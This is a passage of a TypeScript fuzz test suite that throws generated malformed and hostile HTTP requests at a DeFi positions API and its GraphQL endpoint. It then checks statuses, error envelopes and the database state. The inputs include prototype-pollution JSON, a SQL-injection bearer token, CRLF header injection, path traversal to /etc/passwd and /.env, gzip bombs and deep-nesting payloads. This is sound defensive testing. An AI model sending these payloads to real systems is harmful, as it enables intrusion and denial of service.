    fc.constantFrom(0, 1, 3, 100).map((n) => (body: Record<string, unknown>) => {
      body.deposits = Array.from({ length: n }, (_, i) => ({ symbol: i % 2 ? 'USDT' : 'USDC', amount: '1' }));
    }),
    fc
      .tuple(fc.constantFrom('privateKey', 'note', 'a b', 'k'.repeat(65), '__proto__', 'toString'), hostile)
      .map(([key, v]) => (body: Record<string, unknown>) => {
        body.metadata = { [key]: v };
      }),
    fc.constant((body: Record<string, unknown>) => {
      body.metadata = Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`k${i}`, 'v']));
    }),
  );
  const body = fc.tuple(valid, fc.array(mutation, { maxLength: 3 })).map(([b, ms]) => {
    for (const m of ms) m(b);
    return b;
  });
  /** The text sent: JSON, or JSON that JSON.stringify cannot make. */
  const text = fc.tuple(body, fc.nat(99), nasty).map(([b, roll, n]): string | Buffer => {
    const plain = JSON.stringify(b);
    if (roll < 70) return plain;
    if (roll < 73) return `${plain.slice(0, -1)},"chain":"arc","chain":${JSON.stringify(n)}}`;
    if (roll < 76) return `{"__proto__":{"chain":"base","isAdmin":true},${plain.slice(1)}`;
    if (roll < 78) return `{"constructor":{"prototype":{"polluted":1}},${plain.slice(1)}`;
    if (roll < 80) return plain.replace(/"amount":"(\d+)"/, '"amount":1e400');
    if (roll < 82) return `${'['.repeat(20_000)}${']'.repeat(20_000)}`;
    if (roll < 84) return `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`;
    if (roll < 86) return JSON.stringify({ ...b, pad: 'x'.repeat(70_000) });
    if (roll < 88) return `\uFEFF${plain}`;
    if (roll < 90) return n;
    if (roll < 91) return '';
    if (roll < 92) return 'null';
    if (roll < 93) return plain.slice(0, Math.max(1, plain.length >> 1));
    if (roll < 95) return Buffer.from(plain, 'utf16le');
    return Buffer.from(wtf8(plain.replace('"base"', '"ba\uD800se"')));
  });
  const authorization = fc.oneof(
    { weight: 55, arbitrary: fc.constantFrom(...liveKeys).map((k) => `Bearer ${k}`) },
    { weight: 8, arbitrary: fc.constant(`Bearer ${testKey}`) },
    { weight: 4, arbitrary: fc.constant(`Bearer ${noScopeKey}`) },
    { weight: 4, arbitrary: fc.constant(`Bearer ${originKey}`) },
    { weight: 4, arbitrary: fc.constant(`Bearer ${revokedKey}`) },
    {
      weight: 25,
      arbitrary: fc.oneof(
        fc.constantFrom(
          'Bearer',
          'Bearer ',
          `bearer ${liveKeys[0]}`,
          `Bearer  ${liveKeys[0]}`,
          `Bearer ${liveKeys[0]} `,
          `Bearer ${liveKeys[0]}x`,
          `Bearer ${liveKeys[0]!.slice(0, -1)}`,
          `Bearer ${liveKeys[0]!.replace('live', 'test')}`,
          `Basic ${Buffer.from('a:b').toString('base64')}`,
          `Bearer ${INTERNAL_TOKEN}`,
          'Bearer svc_live_',
          'Bearer svc_live__',
          `Bearer svc_live_${'a'.repeat(5000)}_${'b'.repeat(24)}`,
          `Bearer svc_live_' OR 1=1--_${'b'.repeat(24)}`,
          `Bearer ${liveKeys[0]}\r\nX-Injected: 1`,
        ),
        nasty.map((n) => `Bearer ${n}`),
        nasty,
      ),
    },
  );
  const idempotency = fc.oneof(
    { weight: 50, arbitrary: fc.constant(undefined) },
    { weight: 20, arbitrary: fc.constantFrom(...idempotencyPool) },
    { weight: 10, arbitrary: fc.uuid() },
    {
      weight: 20,
      arbitrary: fc.oneof(
        nasty,
        fc.uuid().map((u) => `${u},${u}`),
        fc.uuid().map((u) => u.replace(/-/g, '')),
      ),
    },
  );
  const contentType = fc.oneof(
    { weight: 75, arbitrary: fc.constant('application/json') },
    {
      weight: 25,
      arbitrary: fc.constantFrom(
        'application/json; charset=utf-8',
        'application/json; charset=latin1',
        'application/json; charset=utf-16',
        'application/json; charset=nope',
        'application/merge-patch+json',
        'application/vnd.api+json',
        'APPLICATION/JSON',
        'text/plain',
        'text/json',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        '',
        '*/*',
      ),
    },
  );
  return fc
    .record({
      verb: method('POST'),
      path: fc.constantFrom(
        '/v1/positions',
        '/v1/positions',
        '/v1/positions',
        '/V1/Positions',
        '/v1/positions/',
      ),
      query: fc.oneof(
        { weight: 9, arbitrary: fc.constant('') },
        { weight: 1, arbitrary: queryOf(['chain', 'wallet'], () => nasty) },
      ),
      text,
      authorization: fc.option(authorization, { nil: undefined, freq: 8 }),
      idempotency,
      contentType: fc.option(contentType, { nil: undefined, freq: 15 }),
      origin: fc.option(fc.constantFrom('https://integrator.example', 'https://evil.example', 'null'), {
        nil: undefined,
        freq: 2,
      }),
      encoding: fc.oneof(
        { weight: 92, arbitrary: fc.constant(undefined) },
        {
          weight: 8,
          arbitrary: fc.constantFrom('gzip', 'gzip-bomb', 'gzip-broken', 'br', 'zstd', 'identity', 'chunked'),
        },
      ),
      duplicates: fc.boolean(),
      noise,
    })
    .map((r) => {
      const headers: [string, string][] = [];
      if (r.authorization !== undefined) headers.push(['Authorization', r.authorization]);
      if (r.duplicates && r.authorization !== undefined)
        headers.push(['Authorization', `Bearer ${liveKeys[1]}`]);
      if (r.idempotency !== undefined) headers.push(['Idempotency-Key', r.idempotency]);
      if (r.duplicates && r.idempotency !== undefined) headers.push(['Idempotency-Key', idempotencyPool[0]!]);
      if (r.contentType !== undefined) headers.push(['Content-Type', r.contentType]);
      if (r.origin !== undefined) headers.push(['Origin', r.origin]);
      let body: string | Buffer = r.text;
      if (r.encoding === 'gzip') {
        headers.push(['Content-Encoding', 'gzip']);
        body = gzipSync(Buffer.from(body));
      } else if (r.encoding === 'gzip-bomb') {
        headers.push(['Content-Encoding', 'gzip']);
        body = gzipBomb();
      } else if (r.encoding === 'gzip-broken') {
        headers.push(['Content-Encoding', 'gzip']);
        body = Buffer.concat([gzipSync(Buffer.from(body)).subarray(0, 12), Buffer.from('garbage')]);
      } else if (r.encoding === 'chunked') {
        headers.push(['Transfer-Encoding', 'chunked']);
        const bytes = Buffer.from(body);
        body = Buffer.concat([
          Buffer.from(`${bytes.length.toString(16)}\r\n`),
          bytes,
          Buffer.from('\r\n0\r\n\r\n'),
        ]);
      } else if (r.encoding !== undefined) {
        headers.push(['Content-Encoding', r.encoding]);
      }
      return request('prepare', r.verb, `${r.path}${r.query}`, [...headers, ...r.noise], { body });
    });
}

function positionCase(): fc.Arbitrary<Case> {
  const id = fc.oneof(
    { weight: 25, arbitrary: fc.constantFrom(...known.map(([k]) => k)) },
    { weight: 5, arbitrary: fc.constantFrom(...known.map(([k]) => k.toUpperCase().replace('0X', '0x'))) },
    { weight: 15, arbitrary: hash64 },
    { weight: 40, arbitrary: encoded(nasty) },
    {
      weight: 15,
      arbitrary: fc.constantFrom(
        '',
        '..',
        '%2e%2e',
        '..%2F..%2Fapi_keys',
        `0x${'a'.repeat(5000)}`,
        `${known[0]![0]}%00`,
        `${known[0]![0]}/x`,
        `${known[0]![0]};x`,
        '%E0%A4%A',
        '%ED%A0%80',
        '%',
        '0x%20',
      ),
    },
  );
  const authorization = fc.oneof(
    { weight: 40, arbitrary: fc.constant('owner') },
    { weight: 15, arbitrary: fc.constantFrom(...liveKeys).map((k) => `Bearer ${k}`) },
    {
      weight: 5,
      arbitrary: fc.constantFrom(testKey, noScopeKey, originKey, revokedKey).map((k) => `Bearer ${k}`),
    },
    {
      weight: 40,
      arbitrary: fc.oneof(
        nasty,
        nasty.map((n) => `Bearer ${n}`),
        fc.constant(`Bearer ${INTERNAL_TOKEN}`),
      ),
    },
  );
  return fc
    .tuple(
      method('GET'),
      id,
      fc.option(authorization, { nil: undefined, freq: 8 }),
      queryOf(['positionId', 'x'], () => nasty),
      noise,
      fc.nat(9),
    )
    .map(([verb, positionId, auth, q, n, roll]) => {
      const headers: [string, string][] = [];
      const owner = known.find(([k]) => k.toLowerCase() === positionId.toLowerCase())?.[1] ?? liveKeys[0]!;
      if (auth !== undefined) headers.push(['Authorization', auth === 'owner' ? `Bearer ${owner}` : auth]);
      if (roll === 0) headers.push(['Origin', 'https://evil.example']);
      return request('position', verb, `/v1/positions/${positionId}${roll < 3 ? q : ''}`, [...headers, ...n]);
    });
}

/** /graphql: mostly without the token (401 before anything is read), some with it and hostile documents. */
function graphqlCase(): fc.Arbitrary<Case> {
  const variables = fc.oneof(
    nasty,
    fc.jsonValue({ maxDepth: 2 }),
    fc.constantFrom(1e308, -0, null, true, 2 ** 31),
  );
  const document = fc.oneof(
    fc
      .tuple(variables)
      .map(([v]) => ({ query: 'query($h: String!) { strategy(hash: $h) { hash } }', variables: { h: v } })),
    fc.tuple(variables, variables).map(([h, a]) => ({
      query: 'query($h: String!, $a: String!) { quote(hash: $h, amount: $a) { amountOut } }',
      variables: { h: h, a },
    })),
    fc.tuple(variables, variables).map(([l, c]) => ({
      query: 'query($l: Int, $c: String) { strategies(first: $l, after: $c) { pageInfo { hasNextPage } } }',
      variables: { l, c },
    })),
    fc.tuple(variables).map(([q]) => ({
      query: 'query($q: String!) { searchStrategies(q: $q) { pageInfo { hasNextPage } } }',
      variables: { q },
    })),
    fc.tuple(variables).map(([a]) => ({
      query: 'query($a: [String!]!) { demoBalances(addresses: $a) { __typename } }',
      variables: { a },
    })),
    fc.tuple(variables).map(([m]) => ({
      query: 'query($m: BadgeMetric) { badge(metric: $m) { message } }',
      variables: { m },
    })),
    fc.tuple(variables).map(([p]) => ({
      query: 'query($p: String!) { position(positionId: $p) { status } }',
      variables: { p },
    })),
    // A key-creating mutation whose input is always invalid: nothing may be stored.
    fc.tuple(variables.filter((v) => v !== 'TEST' && v !== 'LIVE')).map(([e]) => ({
      query: 'mutation($e: ApiKeyEnvironment!) { createApiKey(input: { environment: $e }) { keyId } }',
      variables: { e },
    })),
    fc
      .constantFrom(
        '{ stats { source } }',
        '{ chains { key } }',
        '{ pilot { __typename } }',
        '{ __schema { types { name } } }',
        '{ serviceVersion }',
      )
      .map((query) => ({ query })),
    nasty.map((query) => ({ query })),
    fc.integer({ min: 1, max: 4000 }).map((n) => ({ query: `{ ${'a { '.repeat(n)}b${' }'.repeat(n)} }` })),
    fc.integer({ min: 1, max: 4000 }).map((n) => ({
      query: `{ ${Array.from({ length: n }, (_, i) => `a${i}: serviceVersion`).join(' ')} }`,
    })),
    fc.constant({ query: 'fragment A on Query { ...B } fragment B on Query { ...A } { ...A }' }),
    fc.constant({ query: '{ stats { source } }', operationName: 'nope' }),
    fc.jsonValue({ maxDepth: 3 }),
  );
  const textOf = fc
    .tuple(document, fc.nat(19))
    .map(([d, roll]) =>
      roll === 0
        ? '{"query":'
        : roll === 1
          ? `[${JSON.stringify(d)},${JSON.stringify(d)}]`
          : roll === 2
            ? '['.repeat(50_000)
            : JSON.stringify(d),
    );
  const badAuth = fc.oneof(
    fc.constant(undefined),
    fc.constantFrom(
      'Bearer',
      `Bearer ${INTERNAL_TOKEN}x`,
      `Bearer ${INTERNAL_TOKEN.slice(0, -1)}`,
      `bearer ${INTERNAL_TOKEN}`,
      `Basic ${INTERNAL_TOKEN}`,
      `Bearer ${liveKeys[0]}`,
      INTERNAL_TOKEN,
    ),
    nasty.map((n) => `Bearer ${n}`),
  );
  return fc
    .record({
      internal: fc.nat(99).map((n) => n < 40),
      auth: badAuth,
      verb: fc.oneof(
        { weight: 70, arbitrary: fc.constant('POST') },
        { weight: 15, arbitrary: fc.constant('GET') },
        { weight: 15, arbitrary: fc.constantFrom(...METHODS) },
      ),
      path: fc.constantFrom('/graphql', '/graphql', '/graphql/', '/graphql/x', '/GRAPHQL'),
      text: textOf,
      contentType: fc.constantFrom(
        'application/json',
        'application/json',
        'application/graphql',
        'text/plain',
        'application/x-www-form-urlencoded',
        '',
      ),
      noise,
    })
    .map((r) => {
      const headers: [string, string][] = [];
      if (r.internal) headers.push(['Authorization', `Bearer ${INTERNAL_TOKEN}`]);
      else if (r.auth !== undefined) headers.push(['Authorization', r.auth]);
      if (r.contentType) headers.push(['Content-Type', r.contentType]);
      const target = r.verb === 'GET' ? `${r.path}?query=${pct(r.text)}` : r.path;
      const c = request(
        'graphql',
        r.verb,
        target,
        [...headers, ...r.noise],
        r.verb === 'GET' ? {} : { body: r.text },
      );
      return { ...c, internal: r.internal };
    });
}

function unknownCase(): fc.Arbitrary<Case> {
  const fixed = fc.constantFrom(
    '/.env',
    '/admin',
    '/api',
    '/api/',
    '/v1',
    '/v2/positions',
    '/api/stats/extra',
    '/api/quote/../../etc/passwd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/web/../package.json',
    '/web/app.js/..',
    '/graphqlx',
    '/healthzz',
    '//api//stats',
    '/api/stats;jsessionid=1',
    '/api/stats%00',
    '/api/stats%2F',
    `/v1/positions/${'0x'.padEnd(66, 'a')}/extra`,
    '/v1/keys',
    '/api/%ED%A0%80',
    '/%F0%9F%92%A5',
  );
  const random = fc
    .tuple(fc.constantFrom('/nope-', '/api/zz-', '/v1/zz-', '/v1/positions/x/y-'), encoded(nasty))
    .map(([p, s]) => `${p}${s}`);
  return fc
    .tuple(
      method('GET'),
      fc.oneof(fixed, random),
      queryOf(['a'], () => nasty),
      noise,
    )
    .map(([verb, p, q, n]) => request('unknown', verb, `${p}${q}`, n));
}

// ---------------------------------------------------------------------------------------------------
// The oracle

interface Outcome {
  c: Case;
  response?: RawResponse;
  failure?: string;
  ms: number;
}

const STACK = /\n\s+at .+:\d+:\d+|node_modules|\/work\/|ECONNREFUSED/;
/** The reads with an ETag, which answer If-None-Match with 304. */
const REVALIDATED = new Set<Endpoint>(['stats', 'chains', 'strategies', 'strategy-detail', 'badge']);

function decoded(res: RawResponse): Buffer {
  const encoding = res.headers['content-encoding'];
  if (encoding === 'gzip') return gunzipSync(res.body);
  if (encoding === 'br') return brotliDecompressSync(res.body);
  return res.body;
}

/** The endpoints that answer a CORS preflight (the demo endpoints do not: 405). */
const PREFLIGHT = new Set<Endpoint>([
  'stats',
  'chains',
  'strategies',
  'strategy-detail',
  'quote',
  'badge',
  'prepare',
  'position',
]);
const RATE_HEADERS = ['ratelimit-limit', 'ratelimit-remaining', 'ratelimit-reset', 'ratelimit-policy'];

function check(c: Case, res: RawResponse): string | null {
  if (res.empty) return 'the server closed the socket without an answer';
  if (res.status >= 500) return `a ${res.status}`;
  const requestId = res.headers['x-request-id'];
  if (!requestId) return 'no X-Request-Id';
  if (res.headers['x-injected'] !== undefined || res.headers['set-cookie'] !== undefined)
    return 'an injected header came back';
  // Bodies over the threshold come compressed when Accept-Encoding asks (COMPRESSION).
  let text: string;
  try {
    text = decoded(res).toString('utf8');
  } catch {
    return `a body that is not valid ${res.headers['content-encoding']}`;
  }
  if (STACK.test(text)) return 'a stack trace or a path leaked';
  const head = c.request.method === 'HEAD';
  // If-None-Match: * on a read with an ETag (rest/httpCache.ts) is a 304: no body, the tag.
  if (res.status === 304 && REVALIDATED.has(c.endpoint)) {
    const asked = c.request.headers?.some(([k]) => k.toLowerCase() === 'if-none-match');
    if (!asked) return 'a 304 without If-None-Match';
    if (res.body.length > 0) return 'a 304 with a body';
    if (!/^"[\w-]+"$/.test(res.headers.etag ?? '')) return 'a 304 without a strong ETag';
    return null;
  }

  if (c.endpoint === 'graphql' && c.internal) {
    if (!GRAPHQL_AUTHED.has(res.status)) return `status ${res.status} is not GraphQL over HTTP`;
    if (text === '' || head) return null;
    try {
      const body = JSON.parse(text) as { errors?: { extensions?: { code?: string } }[] };
      if (body.errors?.some((e) => e.extensions?.code === 'INTERNAL')) return 'an INTERNAL GraphQL error';
    } catch {
      return 'a body that is not JSON';
    }
    return null;
  }

  // A CORS preflight (rest/cors.ts): an OPTIONS to a public read or a /v1 path is a 204 after the bucket.
  if (c.request.method === 'OPTIONS' && res.status === 204 && PREFLIGHT.has(c.endpoint)) {
    if (res.body.length > 0) return 'a 204 with a body';
    if (!res.headers['access-control-allow-methods'])
      return 'a preflight without Access-Control-Allow-Methods';
    if (RATE_HEADERS.some((h) => res.headers[h] === undefined)) return 'no RateLimit-* headers';
    return null;
  }
  const allowed = ALLOWED[c.endpoint];
  const codes = allowed[res.status];
  if (codes === undefined) return `status ${res.status} is not documented for ${c.endpoint}`;
  if (!/^application\/json\b/.test(res.headers['content-type'] ?? '')) return 'not application/json';
  if (res.status === 200) return head ? null : checkSuccess(c.endpoint, text, requestId, c.request.method);

  // Every error: the envelope.
  if (res.status === 429 && !/^\d+$/.test(res.headers['retry-after'] ?? '')) return '429 without Retry-After';
  if (res.status === 405 && !res.headers.allow) return '405 without Allow';
  if (head) return null;
  let error: Record<string, unknown>;
  try {
    const parsed = JSON.parse(text) as { error?: Record<string, unknown> };
    if (typeof parsed.error !== 'object' || parsed.error === null) return 'no error envelope';
    error = parsed.error;
  } catch {
    return 'an error body that is not JSON';
  }
  const code = error.code as ErrorCode;
  if (!codes.includes(code)) return `code ${String(code)} is not one of ${codes.join('/')} for ${res.status}`;
  if (error.requestId !== requestId) return 'error.requestId differs from X-Request-Id';
  if (error.retryable !== ERROR_CODES[code].retryable) return 'error.retryable is not the table value';
  if (typeof error.message !== 'string' || error.message === '') return 'no error.message';
  // The bucketed paths carry the rate-limit headers on failure too, except a request too broken to reach one.
  const unparsed = (res.status === 400 && code === 'BAD_REQUEST') || c.request.method === 'CONNECT';
  if (c.endpoint !== 'graphql' && !unparsed && RATE_HEADERS.some((h) => res.headers[h] === undefined))
    return 'no RateLimit-* headers';
  return null;
}

/** Position ids of the 200 prepares, to compare with the store. */
const preparedIds = new Set<string>();

function checkSuccess(endpoint: Endpoint, text: string, requestId: string, method: string): string | null {
  let body: Record<string, unknown>;
  try {
    body = JSON.parse(text) as Record<string, unknown>;
  } catch {
    return 'a 200 body that is not JSON';
  }
  if (endpoint === 'badge') {
    const extra = Object.keys(body).filter(
      (k) => !['schemaVersion', 'label', 'message', 'color', 'cacheSeconds', 'isError'].includes(k),
    );
    if (
      body.schemaVersion !== 1 ||
      typeof body.label !== 'string' ||
      typeof body.message !== 'string' ||
      extra.length > 0
    )
      return 'not a badge payload';
    return null;
  }
  const meta = body.meta as Record<string, unknown> | undefined;
  const data = body.data as Record<string, unknown> | undefined;
  if (typeof data !== 'object' || data === null || typeof meta !== 'object' || meta === null)
    return 'not { data, meta }';
  if (meta.requestId !== requestId || meta.apiVersion !== 'v1') return 'meta.requestId or apiVersion wrong';
  // A GET of /v1/positions (in any spelling express routes there, and with an empty id) is the key's list.
  if (
    (endpoint === 'prepare' || endpoint === 'position') &&
    method === 'GET' &&
    Array.isArray(data.positions)
  ) {
    const page = data.page as Record<string, unknown> | undefined;
    if (typeof page !== 'object' || page === null || typeof page.limit !== 'number')
      return 'not a position list';
    return (data.positions as Record<string, unknown>[]).every((p) =>
      /^0x[0-9a-f]{64}$/.test(String(p.positionId)),
    )
      ? null
      : 'not a position list';
  }
  if (endpoint === 'prepare') {
    const fee = data.fee as Record<string, unknown>;
    const txs = data.transactions as { purpose: string }[];
    if (
      data.status !== 'prepared' ||
      !/^0x[0-9a-f]{64}$/i.test(String(data.strategyHash)) ||
      !WALLET_PATTERN.test(String(data.wallet)) ||
      fee?.protocolFeeBps !== 5000 ||
      fee?.removable !== false ||
      !Array.isArray(txs) ||
      txs.at(-1)?.purpose !== 'ship'
    )
      return 'not a prepared position';
    preparedIds.add(String(data.strategyHash).toLowerCase());
  }
  if (endpoint === 'position' && !['prepared', 'shipped', 'filled', 'docked'].includes(String(data.status)))
    return 'not a position status';
  return null;
}

const FRAMING = new Set(['content-length', 'transfer-encoding', 'expect', 'upgrade', 'connection', 'host']);

/**
 * Well-formed HTTP that cannot desynchronise a connection: these go over a kept-alive connection (as
 * most clients send), the rest on a connection of their own.
 */
function wellFormed(r: RawRequest): boolean {
  const body = r.body === undefined ? 0 : Buffer.byteLength(r.body);
  const headers = r.headers ?? [];
  return (
    ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'].includes(r.method) &&
    /^\/[\x21-\x7e]*$/.test(r.target) &&
    r.target.length + headers.reduce((n, [k, v]) => n + k.length + v.length, 0) < 8_000 &&
    body < 16_000 &&
    headers.every(
      ([k, v]) => /^[A-Za-z0-9-]+$/.test(k) && /^[\x20-\x7e]*$/.test(v) && !FRAMING.has(k.toLowerCase()),
    )
  );
}

async function run(cases: Case[]): Promise<Outcome[]> {
  const outcomes: Outcome[] = new Array(cases.length);
  let next = 0;
  const worker = async () => {
    const connection = new KeepAliveConnection(port);
    while (next < cases.length) {
      const i = next++;
      const c = cases[i]!;
      const started = performance.now();
      try {
        const response = wellFormed(c.request)
          ? await connection.send(c.request, { timeoutMs: 20_000 })
          : await rawRequest(port, c.request, { timeoutMs: 20_000 });
        const ms = performance.now() - started;
        outcomes[i] = { c, response, failure: check(c, response) ?? undefined, ms };
      } catch (error) {
        const ms = performance.now() - started;
        outcomes[i] = { c, failure: `no answer: ${(error as Error).message}`, ms };
      }
    }
    connection.close();
  };
  await Promise.all(Array.from({ length: CONCURRENCY }, worker));
  return outcomes;
}

function describeFailure(o: Outcome): string {
  const r = o.c.request;
  const body = r.body === undefined ? '' : Buffer.from(r.body).toString('utf8').slice(0, 1000);
  return [
    `[${o.c.endpoint}${o.c.internal ? ' internal' : ''}] ${o.failure}`,
    `  ${JSON.stringify(r.method)} ${JSON.stringify(r.target.slice(0, 200))}`,
    `  headers ${JSON.stringify((r.headers ?? []).map(([k, v]) => [k, v.slice(0, 80)]))}`,
    body && `  body ${JSON.stringify(body)}`,
    o.response && `  → ${o.response.status} ${o.response.body.toString('utf8').slice(0, 200)}`,
  ]
    .filter(Boolean)
    .join('\n');
}

// ---------------------------------------------------------------------------------------------------

describe(`fuzzing every endpoint (seed ${SEED})`, () => {
  const outcomes: Outcome[] = [];

  it('answers every generated request with a documented status and a valid body or envelope', async () => {
    const t0 = performance.now();
    const cpu0 = process.cpuUsage();
    const arbitraries = generators();
    const cases: Case[] = [];
    let offset = 0;
    for (const [endpoint, runs] of Object.entries(RUNS) as [Endpoint, number][]) {
      cases.push(
        ...fc.sample(arbitraries[endpoint], { seed: SEED + offset++, numRuns: Math.ceil(runs * SCALE) }),
      );
    }
    // Interleave the endpoints so the buckets, caches and the pool see a mixed load (seeded shuffle).
    const shuffled = [...cases];
    const order = fc.sample(fc.integer({ min: 0, max: 2 ** 31 - 1 }), {
      seed: SEED,
      numRuns: shuffled.length,
    });
    for (let i = shuffled.length - 1; i > 0; i--) {
      const j = order[i]! % (i + 1);
      [shuffled[i], shuffled[j]] = [shuffled[j]!, shuffled[i]!];
    }
    expect(shuffled.length).toBeGreaterThanOrEqual(Math.min(1, SCALE) * 10_000);
    const t1 = performance.now();
    const cpu1 = process.cpuUsage(cpu0);
    outcomes.push(...(await run(shuffled)));
    const cpu2 = process.cpuUsage(cpu0);
    console.info(
      `generated in ${Math.round(t1 - t0)} ms (cpu ${Math.round((cpu1.user + cpu1.system) / 1000)}), sent in ${Math.round(performance.now() - t1)} ms (cpu ${Math.round((cpu2.user + cpu2.system - cpu1.user - cpu1.system) / 1000)})`,
    );

    const failures = outcomes.filter((o) => o.failure);
    const perEndpoint = Object.fromEntries(
      Object.keys(RUNS).map((e) => {
        const mine = outcomes.filter((o) => o.c.endpoint === e);
        const statuses: Record<number, number> = {};
        for (const o of mine)
          if (o.response) statuses[o.response.status] = (statuses[o.response.status] ?? 0) + 1;
        const ms = mine.map((o) => o.ms).sort((a, b) => a - b);
        return [
          e,
          {
            sent: mine.length,
            statuses,
            p50: Math.round(ms[ms.length >> 1] ?? 0),
            max: Math.round(ms.at(-1) ?? 0),
          },
        ];
      }),
    );
    console.info(`fuzz seed ${SEED}: ${outcomes.length} requests`, JSON.stringify(perEndpoint));
    expect(failures.length, `seed ${SEED}\n${failures.slice(0, 15).map(describeFailure).join('\n')}`).toBe(0);
    // ~35 s of CPU (the service and the client share this process); more on a busy machine.
  }, 300_000);

  it('really exercised the chain-backed and success paths', () => {
    const ok = (e: Endpoint) =>
      outcomes.filter((o) => o.c.endpoint === e && o.response?.status === 200).length;
    for (const e of [
      'stats',
      'chains',
      'strategies',
      'strategy-detail',
      'quote',
      'badge',
      'pilot',
      'balances',
      'prepare',
      'position',
    ] as const)
      expect(ok(e), e).toBeGreaterThan(0);
  });

  it('stays up and keeps answering normal requests', async () => {
    expect((await svc.get('/healthz')).status).toBe(200);
    const stats = await svc.get('/api/stats', { headers: { 'x-forwarded-for': '10.254.0.1' } });
    expect(stats.status).toBe(200);
  });

  it('stored exactly the positions of the 200 prepares, each one valid', async () => {
    const { rows } = await query<{
      strategy_hash: string;
      wallet: string;
      amount_a: string;
      amount_b: string;
      chain_key: string;
      maker_fee_bps: number;
      protocol_fee_bps: number;
      metadata: Record<string, unknown> | null;
      payload: { status?: string };
    }>(
      svc.services.db,
      'SELECT strategy_hash, wallet, amount_a::text, amount_b::text, chain_key, maker_fee_bps, protocol_fee_bps, metadata, payload FROM positions',
    );
    for (const [id] of known) preparedIds.add(id.toLowerCase());
    expect(new Set(rows.map((r) => r.strategy_hash))).toEqual(preparedIds);
    expect(rows.length).toBe(preparedIds.size);
    for (const row of rows) {
      expect(row.strategy_hash).toMatch(/^0x[0-9a-f]{64}$/);
      expect(row.wallet).toMatch(WALLET_PATTERN);
      for (const amount of [row.amount_a, row.amount_b]) {
        expect(amount).toMatch(/^[1-9][0-9]*$/);
        expect(BigInt(amount) <= POSITION_LIMITS.maxAmount).toBe(true);
      }
      expect(['base', 'arc', 'baseSepolia']).toContain(row.chain_key);
      expect(row.maker_fee_bps).toBeGreaterThanOrEqual(0);
      expect(row.maker_fee_bps).toBeLessThanOrEqual(POSITION_LIMITS.maxMakerFeeBps);
      expect(row.protocol_fee_bps).toBe(5000);
      expect(row.payload.status).toBe('prepared');
      for (const value of Object.values(row.metadata ?? {})) expect(typeof value).toBe('string');
    }
  });

  it('created no API key and left the catalogue tables unchanged', async () => {
    expect(await countOf('api_keys')).toBe(apiKeysBefore);
    expect(await catalogueSnapshot()).toEqual(catalogueBefore);
  });
});
